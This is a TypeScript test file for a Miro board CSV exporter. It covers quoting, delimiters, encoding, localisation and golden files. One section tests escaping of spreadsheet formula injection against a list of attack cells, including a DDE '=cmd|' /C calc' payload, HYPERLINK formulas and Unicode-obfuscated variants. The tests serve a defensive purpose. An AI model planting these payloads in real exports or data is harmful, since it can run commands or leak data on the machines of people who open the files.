import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import {
  boardsCsv,
  type CsvDelimiter,
  csvFileName,
  FORMULA_START,
  notesCsv,
  readDelimiter,
  summaryCsv,
  tableCsv,
} from '../../src/core/csv.ts';
import { catalogueType, noteLink } from '../../src/core/export-tables.ts';
import type { SavedScoring } from '../../src/core/saved-scores.ts';
import { readBoard } from '../../src/core/snapshot.ts';
import { tallyBoard } from '../../src/core/tally.ts';
import { writeMark } from '../../src/core/template-mark.ts';
import { note as boardNote, frame, shape } from '../fixtures/boards/board-items.ts';
import { counted, note, tallyOf, unassigned } from '../fixtures/csv/tally.ts';

const AWKWARD = [
  'He said "fine", then left',
  'comma, inside',
  'two\nlines',
  'windows\r\nline break',
  'Доставка опоздала на неделю',
  'Zażółć gęślą jaźń',
  'Emoji 👍🏽 and 🙁',
  '=1+1',
  '-slow delivery',
  '+fast',
  '@SUM(A1)',
  '\tstarts with tab',
  '\rstarts with CR',
  '=HYPERLINK("http://x.example/?q="&A1,"click")\nsecond line',
  ' =1+1',
  'semi;colon',
  'tab\tinside',
  "'already quoted",
];

const awkwardTally = tallyOf(
  AWKWARD.map((text, index) =>
    counted(note(String(1000 + index), text), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
  ),
);

const DELIMITERS: readonly CsvDelimiter[] = [',', ';', '\t'];

function parse(csv: string, delimiter: CsvDelimiter): string[][] {
  const text = csv.startsWith('\uFEFF') ? csv.slice(1) : csv;
  const result = Papa.parse<string[]>(text, { delimiter, newline: '\r\n', skipEmptyLines: true });
  expect(result.errors).toEqual([]);
  return result.data;
}

/** What a reader gets back after removing the export's apostrophe from an escaped cell. */
function withoutApostrophe(cell: string): string {
  return cell.startsWith("'") && FORMULA_START.test(cell.slice(1)) ? cell.slice(1) : cell;
}

describe('notesCsv round trip', () => {
  for (const delimiter of DELIMITERS) {
    it(`keeps every awkward note text through a real CSV parser with ${JSON.stringify(delimiter)}`, () => {
      const rows = parse(notesCsv(awkwardTally, { language: 'en', delimiter }), delimiter);
      const texts = rows.slice(1).map((row) => row[2] ?? '');
      expect(texts.map(withoutApostrophe)).toEqual(AWKWARD);
      expect(rows.every((row) => row.length === 13)).toBe(true);
    });
  }

  it('never leaves a cell a spreadsheet would run as a formula', () => {
    for (const delimiter of DELIMITERS) {
      const rows = parse(notesCsv(awkwardTally, { language: 'en', delimiter }), delimiter);
      for (const cell of rows.flat()) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
    }
  });

  it('shows a negative note with a leading apostrophe and its text otherwise unchanged', () => {
    const rows = parse(notesCsv(awkwardTally, { language: 'en' }), ',');
    const texts = rows.map((row) => row[2]);
    expect(texts).toContain("'-slow delivery");
    expect(texts).toContain("'=1+1");
    expect(texts).toContain("'@SUM(A1)");
    expect(texts).toContain("'already quoted");
  });

  it('round-trips any text in any delimiter (property)', () => {
    fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', maxLength: 30 }),
        fc.constantFrom(...DELIMITERS),
        (text, delimiter) => {
          const tally = tallyOf([
            counted(note('1', text), { phase: 'before', touchpoint: 'Web' }, 'neutral'),
          ]);
          const rows = parse(notesCsv(tally, { language: 'en', delimiter }), delimiter);
          // A formula-like text gains exactly one apostrophe; any other text, one starting with an
          // apostrophe of its own included, is written as it is.
          const expected = FORMULA_START.test(text) ? `'${text}` : text;
          expect(rows[1]?.[2]).toBe(expected);
          expect(FORMULA_START.test(rows[1]?.[2] ?? '')).toBe(false);
        },
      ),
    );
  });

  it('escapes formulas in board labels, tags and map names too', () => {
    const tally = tallyOf([
      counted(
        note('1', 'ok', { tags: ['=cmd|calc'] }),
        { map: '+Persona', phase: 'after', touchpoint: '-Support' },
        'positive',
      ),
    ]);
    const [, row] = parse(notesCsv(tally, { language: 'en' }), ',');
    expect(row?.slice(4, 9)).toEqual([
      "'=cmd|calc",
      "'+Persona",
      'after purchase',
      'After purchase',
      "'-Support",
    ]);
  });
});

describe("formula injection, against a fixed list (not the exporter's own FORMULA_START)", () => {
  // Each attack cell and the exact cell a spreadsheet reads back: an apostrophe in front (the
  // "this is text" marker) and the text otherwise unchanged, or the text itself when harmless.
  const ATTACKS: readonly (readonly [string, string])[] = [
    ['=1+1', "'=1+1"],
    [' =1', "' =1"],
    ['\n=1', "'\n=1"],
    ['\u00a0=1', "'\u00a0=1"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+1', "'+1"],
    ['-1', "'-1"],
    ['-slow delivery', "'-slow delivery"],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://x","y")', '\'=HYPERLINK("http://x","y")'],
    ['=HYPERLINK("http://x","y")\nclick me\nplease', '\'=HYPERLINK("http://x","y")\nclick me\nplease'],
    // Full-width: escaped by choice (see FORMULA_START), Excel in East Asian locales may read it.
    ['\uFF1D1+1', "'\uFF1D1+1"],
    ['\uFF0B1', "'\uFF0B1"],
    ['\uFF0D1', "'\uFF0D1"],
    ['\uFF20SUM(A1)', "'\uFF20SUM(A1)"],
    // Small-form operators, escaped for the same reason.
    ['\uFE661+1', "'\uFE661+1"],
    ['\uFE621', "'\uFE621"],
    ['\uFE631', "'\uFE631"],
    ['\uFE6BSUM(A1)', "'\uFE6BSUM(A1)"],
    // Invisible characters an importer may drop before the operator.
    ['\u200B=1+1', "'\u200B=1+1"],
    ['\u200C\u200D=1', "'\u200C\u200D=1"],
    ['\u2060+1', "'\u2060+1"],
    ['\uFEFF=1', "'\uFEFF=1"],
    ['\u00AD-1', "'\u00AD-1"],
    ['\u200E\u202E@SUM(A1)', "'\u200E\u202E@SUM(A1)"],
    ['\u200B fine', '\u200B fine'],
    // A cell is a formula only by its first character: a formula on a later line stays text.
    ['fine\n=1+1', 'fine\n=1+1'],
    ['1+1=2', '1+1=2'],
    ["'=1+1", "'=1+1"],
  ];

  const tally = tallyOf(
    ATTACKS.map(([text], index) =>
      counted(
        note(String(index + 1), text),
        { map: text, phase: 'during', stage: text, touchpoint: text },
        'negative',
      ),
    ),
  );

  for (const delimiter of DELIMITERS) {
    it(`writes each attack cell as its expected cell, notes and labels alike, with ${JSON.stringify(delimiter)}`, () => {
      const rows = parse(notesCsv(tally, { language: 'en', delimiter, bom: false }), delimiter).slice(1);
      const expected = ATTACKS.map(([, cell]) => cell);
      expect(rows.map((row) => row[2])).toEqual(expected);
      expect(rows.map((row) => row[5])).toEqual(expected);
      expect(rows.map((row) => row[7])).toEqual(expected);
      expect(rows.map((row) => row[8])).toEqual(expected);
    });
  }

  it('writes the classic payload as these exact bytes', () => {
    const one = tallyOf([
      counted(note('1', '=HYPERLINK("http://x","y")'), { phase: 'during', touchpoint: 'Web' }, 'negative'),
    ]);
    const [, line] = notesCsv(one, { language: 'en', bom: false }).split('\r\n');
    expect(line).toContain(',"\'=HYPERLINK(""http://x"",""y"")",');
  });
});

describe('notesCsv content', () => {
  const slow = note('3458764564249021457', '<b>not html</b> slow', { colour: 'red', tags: ['urgent', 'Q3'] });
  const tally = tallyOf([
    counted(slow, { map: 'Persona Anna', phase: 'after', touchpoint: 'Delivery' }, 'negative', 'zone', [
      { signal: 'colour', sentiment: 'negative' },
      { signal: 'tag', sentiment: 'positive' },
    ]),
    unassigned(note('2', 'floating'), 'no-phase'),
    unassigned(note('3', ''), 'empty'),
  ]);

  it('has one row per note read, the unassigned ones with their reason', () => {
    const rows = parse(notesCsv(tally, { language: 'en', boardId: 'uXjVOabc=' }), ',');
    expect(rows).toEqual([
      [
        'id',
        'link',
        'text',
        'colour',
        'tags',
        'map',
        'phase',
        'stage',
        'touchpoint',
        'sentiment',
        'signal',
        'conflict',
        'unassigned reason',
      ],
      [
        '3458764564249021457',
        'https://miro.com/app/board/uXjVOabc=/?moveToWidget=3458764564249021457',
        '<b>not html</b> slow',
        'red',
        'urgent, Q3',
        'Persona Anna',
        'after purchase',
        'After purchase',
        'Delivery',
        'negative',
        'zone',
        'colour: negative; tag: positive',
        '',
      ],
      [
        '2',
        'https://miro.com/app/board/uXjVOabc=/?moveToWidget=2',
        'floating',
        'light yellow',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        'outside any phase',
      ],
      [
        '3',
        'https://miro.com/app/board/uXjVOabc=/?moveToWidget=3',
        '',
        'light yellow',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        '',
        'empty note',
      ],
    ]);
    expect(rows.length - 1).toBe(tally.notes);
  });

  it('leaves the map cell empty for a note outside every map and the colour cell empty for a note with no colour', () => {
    const outside = tallyOf([
      counted(
        note('7', 'fine', { colour: null }),
        { phase: 'before', touchpoint: 'Website' },
        'positive',
        'marker',
      ),
    ]);
    const rows = parse(notesCsv(outside, { language: 'en' }), ',');
    expect(rows[1]).toEqual([
      '7',
      '',
      'fine',
      '',
      '',
      '',
      'before purchase',
      'Before purchase',
      'Website',
      'positive',
      'marker in text',
      '',
      '',
    ]);
  });

  it('speaks Polish and Russian in headers and fixed words, never in board text', () => {
    const pl = parse(notesCsv(tally, { language: 'pl' }), ',');
    expect(pl[0]?.[7]).toBe('faza');
    expect(pl[0]?.[8]).toBe('punkt styku');
    expect(pl[1]?.slice(6, 12)).toEqual([
      'po zakupie',
      'After purchase',
      'Delivery',
      'negatywna',
      'strefa',
      'kolor: negatywna; tag: pozytywna',
    ]);
    expect(pl[2]?.[12]).toBe('poza etapami');
    const ru = parse(notesCsv(tally, { language: 'ru' }), ',');
    expect(ru[0]?.[2]).toBe('текст');
    expect(ru[0]?.[7]).toBe('стадия');
    expect(ru[1]?.[6]).toBe('после покупки');
    expect(ru[3]?.[12]).toBe('пустой стикер');
  });

  it('leaves the link empty when the board id is unknown', () => {
    const rows = parse(notesCsv(tally, { language: 'en' }), ',');
    expect(rows.slice(1).map((row) => row[1])).toEqual(['', '', '']);
    expect(noteLink('a/b?', '7')).toBe('https://miro.com/app/board/a%2Fb%3F/?moveToWidget=7');
  });
});

describe('notesCsv: an uncounted note keeps its place', () => {
  it('writes the map, phase, stage and touchpoint known for a note with no sentiment, and its reason', () => {
    const items = [
      frame('Checkout', -100, -100, 1300, 1300),
      frame('After purchase', 0, 0, 1000, 1000),
      shape('Reviews', 0, 0, 1000, 400),
      boardNote('Helpful staff', 500, 100, { id: 'n1' }),
      boardNote('+ fast', 500, 800, { id: 'n2' }),
    ];
    const rows = parse(notesCsv(tallyBoard(readBoard(items)), { language: 'en' }), ',');
    expect(rows.slice(1).map((row) => [row[0], ...row.slice(5)])).toEqual([
      ['n1', 'Checkout', 'after purchase', 'After purchase', 'Reviews', '', '', '', 'no sentiment'],
      ['n2', 'Checkout', 'after purchase', 'After purchase', '', '', '', '', 'no touchpoint'],
    ]);
  });
});

describe("summaryCsv: a custom touchpoint's type", () => {
  it('writes the type its template row carries, the catalogue type for a plain row, nothing when neither knows', () => {
    const row = (label: string, top: number, type?: 'human') =>
      shape(label, 0, top, 1000, 200, {
        metadata: {
          touchpointTally: writeMark({ role: 'row', mapId: 'm', phase: 'before', touchpoint: label, type }),
        },
      });
    const items = [
      frame('Before purchase', 0, 0, 1000, 1000),
      row('Concierge', 0, 'human'),
      row('Website', 200),
      row('Pigeon post', 400),
      boardNote('+ kind', 500, 100),
      boardNote('+ quick', 500, 300),
      boardNote('+ odd', 500, 500),
    ];
    const rows = parse(summaryCsv(tallyBoard(readBoard(items)), { language: 'en' }), ',');
    expect(rows.slice(1).map((cells) => [cells[3], cells[4]])).toEqual([
      ['Concierge', 'human'],
      ['Website', 'digital'],
      ['Pigeon post', ''],
    ]);
  });
});

describe('summaryCsv', () => {
  const tally = tallyOf([
    counted(note('1', 'great site'), { phase: 'before', touchpoint: 'Website' }, 'positive'),
    counted(note('2', 'slow'), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
    counted(note('3', 'broken'), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
    counted(note('4', 'ok'), { phase: 'during', touchpoint: 'Checkout' }, 'neutral'),
    counted(note('5', 'late'), { phase: 'during', touchpoint: 'Checkout' }, 'negative'),
  ]);

  it('writes counts and a negative net as plain numbers a spreadsheet can sum', () => {
    const csv = summaryCsv(tally, { language: 'en', bom: false });
    expect(csv.split('\r\n')).toEqual([
      'map,phase,stage,touchpoint,type,positive,neutral,negative,total,net,negative share,weakest-link rank',
      ',before purchase,Before purchase,Website,digital,1,0,0,1,1,0,',
      ',during purchase,During purchase,Checkout,,0,1,3,4,-3,0.75,1',
      '',
    ]);
    const parsed = Papa.parse<Record<string, unknown>>(csv, {
      header: true,
      dynamicTyping: true,
      skipEmptyLines: true,
    });
    expect(parsed.data.map((row) => row.net)).toEqual([1, -3]);
  });

  it('writes the share with a decimal comma in the ; form, for the locales that need it', () => {
    const csv = summaryCsv(tally, { language: 'pl', delimiter: ';', bom: false });
    expect(csv.split('\r\n')[2]).toBe(';podczas zakupu;During purchase;Checkout;;0;1;3;4;-3;0,75;1');
    const withDot = summaryCsv(tally, { language: 'pl', delimiter: ';', bom: false, decimalSeparator: '.' });
    expect(withDot.split('\r\n')[2]).toContain(';-3;0.75;1');
  });

  it('separates with tabs in the tab form', () => {
    const csv = summaryCsv(tally, { language: 'en', delimiter: '\t', bom: false });
    expect(csv.split('\r\n')[1]).toBe(
      '\tbefore purchase\tBefore purchase\tWebsite\tdigital\t1\t0\t0\t1\t1\t0\t',
    );
  });

  it('fills the type column from the catalogue, by a name in any language, or from the lookup it is given', () => {
    const ru = tallyOf([
      counted(note('1', 'удобно'), { phase: 'before', touchpoint: 'Сайт' }, 'positive'),
      counted(note('2', 'долго'), { phase: 'after', touchpoint: 'Infolinia' }, 'negative'),
      counted(note('3', 'ок'), { phase: 'after', touchpoint: 'Самовывоз' }, 'neutral'),
    ]);
    const rows = parse(summaryCsv(ru, { language: 'ru' }), ',');
    expect(rows[0]?.slice(0, 5)).toEqual(['карта', 'этап', 'стадия', 'точка контакта', 'тип']);
    expect(rows.slice(1).map((row) => row[4])).toEqual(['цифровая', 'через людей', '']);
    const own = parse(summaryCsv(ru, { language: 'en', touchpointType: () => 'physical' }), ',');
    expect(own.slice(1).map((row) => row[4])).toEqual(['physical', 'physical', 'physical']);
  });

  it('adds the previous counts and the change in net score, including rows that vanished', () => {
    const previous: SavedScoring = {
      savedAt: 1,
      notes: 4,
      unassigned: 0,
      rows: [
        // Saved before rows had a stage: Checkout takes the stage it has now, Support has none.
        {
          map: null,
          phase: 'during',
          touchpoint: 'Checkout',
          positive: 1,
          neutral: 0,
          negative: 1,
        },
        {
          map: null,
          phase: 'after',
          touchpoint: 'Support',
          positive: 0,
          neutral: 0,
          negative: 2,
        },
      ],
    };
    const rows = parse(summaryCsv(tally, { language: 'en', previous }), ',');
    expect(rows[0]?.slice(12)).toEqual([
      'previous positive',
      'previous neutral',
      'previous negative',
      'previous net',
      'net change',
    ]);
    expect(rows.slice(1)).toEqual([
      [
        '',
        'before purchase',
        'Before purchase',
        'Website',
        'digital',
        '1',
        '0',
        '0',
        '1',
        '1',
        '0',
        '',
        '0',
        '0',
        '0',
        '0',
        '1',
      ],
      [
        '',
        'during purchase',
        'During purchase',
        'Checkout',
        '',
        '0',
        '1',
        '3',
        '4',
        '-3',
        '0.75',
        '1',
        '1',
        '0',
        '1',
        '0',
        '-3',
      ],
      // A vanished row saved before rows had a stage, in a phase with no row now: no stage to write.
      ['', 'after purchase', '', 'Support', '', '0', '0', '0', '0', '0', '', '', '0', '0', '2', '-2', '2'],
    ]);
  });

  it("writes a vanished row's map, so a row gone from a persona's map is not shown as outside every map", () => {
    const previous: SavedScoring = {
      savedAt: 1,
      notes: 1,
      unassigned: 0,
      rows: [
        { map: 'Persona Anna', phase: 'after', touchpoint: 'Support', positive: 0, neutral: 0, negative: 1 },
      ],
    };
    const rows = parse(summaryCsv(tallyOf([]), { language: 'en', previous }), ',');
    expect(rows.slice(1)).toEqual([
      [
        'Persona Anna',
        'after purchase',
        '',
        'Support',
        '',
        '0',
        '0',
        '0',
        '0',
        '0',
        '',
        '',
        '0',
        '0',
        '1',
        '-1',
        '1',
      ],
    ]);
  });
});

describe('BOM and encoding', () => {
  const tally = tallyOf([
    counted(note('1', 'Wysyłka — Доставка'), { phase: 'after', touchpoint: 'Poczta' }, 'neutral'),
  ]);

  it('starts with a UTF-8 byte order mark by default so Excel reads Cyrillic and Polish letters', () => {
    const bytes = Buffer.from(notesCsv(tally, { language: 'pl' }), 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(bytes.toString('utf8')).toContain('Wysyłka — Доставка');
  });

  it('writes only the byte order mark, or nothing, for a table without header and rows', () => {
    const empty = tallyOf([]);
    expect(notesCsv(empty, { language: 'en', header: false })).toBe('\uFEFF');
    expect(summaryCsv(empty, { language: 'en', header: false, bom: false })).toBe('');
    expect(notesCsv(empty, { language: 'en', header: false, bom: true })).toBe('\uFEFF');
  });

  it('has no byte order mark when asked', () => {
    const csv = tableCsv('summary', tally, { language: 'en', bom: false });
    expect(csv.startsWith('map,')).toBe(true);
    expect(tableCsv('notes', tally, { language: 'en', bom: false }).startsWith('id,')).toBe(true);
  });
});

describe('golden files', () => {
  // Checked by hand once (2026-05): opened the bytes, read each quoting decision against RFC 4180
  // and each escaped cell against FORMULA_START's doc comment.
  const tally = tallyOf([
    counted(
      note('3458764564249021457', 'Fast, friendly "help"'),
      { map: 'Anna', phase: 'before', stage: 'Awareness', touchpoint: 'Call centre' },
      'positive',
    ),
    counted(
      note('3458764564249021458', '-slow\nreply'),
      { map: 'Anna', phase: 'before', stage: 'Awareness', touchpoint: 'Call centre' },
      'negative',
      'marker',
      [{ signal: 'colour', sentiment: 'positive' }],
    ),
    counted(
      note('3458764564249021459', '=1+1'),
      { map: 'Anna', phase: 'after', stage: '3. After purchase', touchpoint: 'Delivery' },
      'negative',
      'colour',
    ),
    unassigned(note('3458764564249021460', 'Доставка, zażółć'), 'no-touchpoint'),
  ]);

  it('writes the summary exactly as the checked file', () => {
    const expected = readFileSync(new URL('../fixtures/csv/summary.en.csv', import.meta.url), 'utf8');
    expect(summaryCsv(tally, { language: 'en', boardId: 'uXjVOabc=' })).toBe(expected);
  });

  it('writes the notes exactly as the checked file', () => {
    const expected = readFileSync(new URL('../fixtures/csv/notes.en.csv', import.meta.url), 'utf8');
    expect(notesCsv(tally, { language: 'en', boardId: 'uXjVOabc=' })).toBe(expected);
  });
});

describe('csvFileName', () => {
  const day = new Date(2026, 2, 5, 23, 59);

  it('names the file after the board, the table and the local date', () => {
    expect(csvFileName('Persona: Anna / web', day, 'notes')).toBe('Persona-Anna-web_notes_2026-03-05.csv');
  });

  it('keeps Cyrillic and Polish letters and drops characters file systems forbid', () => {
    expect(csvFileName('Карта «клиента»', day, 'summary')).toBe('Карта-клиента_summary_2026-03-05.csv');
    expect(csvFileName('Ścieżka? <zakupu>*', day, 'summary')).toBe('Ścieżka-zakupu_summary_2026-03-05.csv');
  });

  it('falls back to the app name when nothing usable is left, and stays short', () => {
    expect(csvFileName(' ??? ', day, 'notes')).toBe('touchpoint-tally_notes_2026-03-05.csv');
    expect(csvFileName('x'.repeat(200), day, 'notes').length).toBe(60 + '_notes_2026-03-05.csv'.length);
  });
});

describe('readDelimiter', () => {
  it('understands what a user types on the command line', () => {
    expect([',', ';', 'tab', '\t', 'TAB', 'semicolon', '|', ''].map(readDelimiter)).toEqual([
      ',',
      ';',
      '\t',
      '\t',
      '\t',
      ';',
      null,
      null,
    ]);
  });

  it('takes the names of the separators in any case and with spaces around, and a typed \\t', () => {
    expect(
      ['comma', ' Comma ', ' , ', 'SEMICOLON', ' ; ', '\\t', ' Tab', 'tabs', ' '].map(readDelimiter),
    ).toEqual([',', ',', ',', ';', ';', '\t', '\t', null, null]);
  });
});

describe('boardsCsv', () => {
  const boardA = tallyOf([
    counted(note('1', 'Slow'), { phase: 'before', touchpoint: 'Website' }, 'negative'),
  ]);
  const boardB = tallyOf([
    counted(note('2', 'Kind'), { phase: 'after', touchpoint: 'Store' }, 'positive'),
    unassigned(note('3', ''), 'empty'),
  ]);
  const boards = [
    { board: 'Workshop A (uXjVA=)', boardId: 'uXjVA=', tally: boardA },
    { board: '=HYPERLINK("http://x.example") (uXjVB=)', boardId: 'uXjVB=', tally: boardB },
  ];

  it.each(DELIMITERS)(
    'writes one header, a board column first and every board’s rows (delimiter %j)',
    (delimiter) => {
      const [header, ...rows] = parse(boardsCsv('summary', boards, { language: 'en', delimiter }), delimiter);
      const single = (tally: typeof boardA) =>
        parse(summaryCsv(tally, { language: 'en', delimiter }), delimiter);
      expect(header).toEqual(['board', ...(single(boardA)[0] ?? [])]);
      expect(rows).toEqual([
        ...single(boardA)
          .slice(1)
          .map((row) => ['Workshop A (uXjVA=)', ...row]),
        ...single(boardB)
          .slice(1)
          .map((row) => ['\'=HYPERLINK("http://x.example") (uXjVB=)', ...row]),
      ]);
    },
  );

  it('writes only the board column header for no boards at all, with or without a BOM', () => {
    const english = boardsCsv('summary', [], { language: 'en' });
    expect(english.startsWith('\uFEFFboard\r\n')).toBe(true);
    expect(parse(english, ',')).toEqual([['board']]);
    const polish = boardsCsv('notes', [], { language: 'pl', bom: false });
    expect(polish.startsWith('tablica\r\n')).toBe(true);
    expect(parse(polish, ',')).toEqual([['tablica']]);
  });

  it('writes no BOM at all when asked, and each board its own themes in the notes table', () => {
    const [first, second] = boards as [(typeof boards)[0], (typeof boards)[0]];
    const themed = [
      { ...first, noteThemes: new Map([['1', 'speed']]) },
      { ...second, noteThemes: new Map([['2', 'staff']]) },
    ];
    const csv = boardsCsv('notes', themed, { language: 'en', bom: false });
    expect(csv).not.toContain('\uFEFF');
    const [header, ...rows] = parse(csv, ',');
    expect(header?.at(-1)).toBe('theme');
    expect(rows.map((row) => [row[1], row.at(-1)])).toEqual([
      ['1', 'speed'],
      ['2', 'staff'],
      ['3', ''],
    ]);
    // A board without themes of its own keeps the themes given for every board.
    const shared = boardsCsv('notes', boards, { language: 'en', noteThemes: new Map([['2', 'staff']]) });
    expect(parse(shared, ',').map((row) => row.at(-1))).toEqual(['theme', '', 'staff', '']);
  });

  it('writes nothing for a board with no notes among others: no blank line between boards', () => {
    const empty = { board: 'Empty (uXjVE=)', boardId: 'uXjVE=', tally: tallyOf([]) };
    const [first, second] = boards as [(typeof boards)[0], (typeof boards)[0]];
    const csv = boardsCsv('notes', [first, empty, second], { language: 'en', bom: false });
    expect(csv).toBe(boardsCsv('notes', [first, second], { language: 'en', bom: false }));
    expect(csv).not.toContain('\r\n\r\n');
  });

  it('links each note to its own board, in the language asked for, with one BOM', () => {
    const csv = boardsCsv('notes', boards, { language: 'pl' });
    expect(csv.indexOf('\uFEFF')).toBe(0);
    expect(csv.lastIndexOf('\uFEFF')).toBe(0);
    const [header, ...rows] = parse(csv, ',');
    expect(header?.[0]).toBe('tablica');
    expect(rows.map((row) => row[2])).toEqual([
      noteLink('uXjVA=', '1'),
      noteLink('uXjVB=', '2'),
      noteLink('uXjVB=', '3'),
    ]);
  });
});

describe('catalogueType', () => {
  it('knows a catalogue touchpoint by its name in any language, and by a name an earlier release wrote', () => {
    expect(catalogueType('Сайт')).toBe('digital');
    expect(catalogueType('szkolenia i onboarding')).toBe('human');
    expect(catalogueType('Szkolenie / wdrożenie')).toBe('human');
    expect(catalogueType('Our own kiosk')).toBeNull();
  });
});
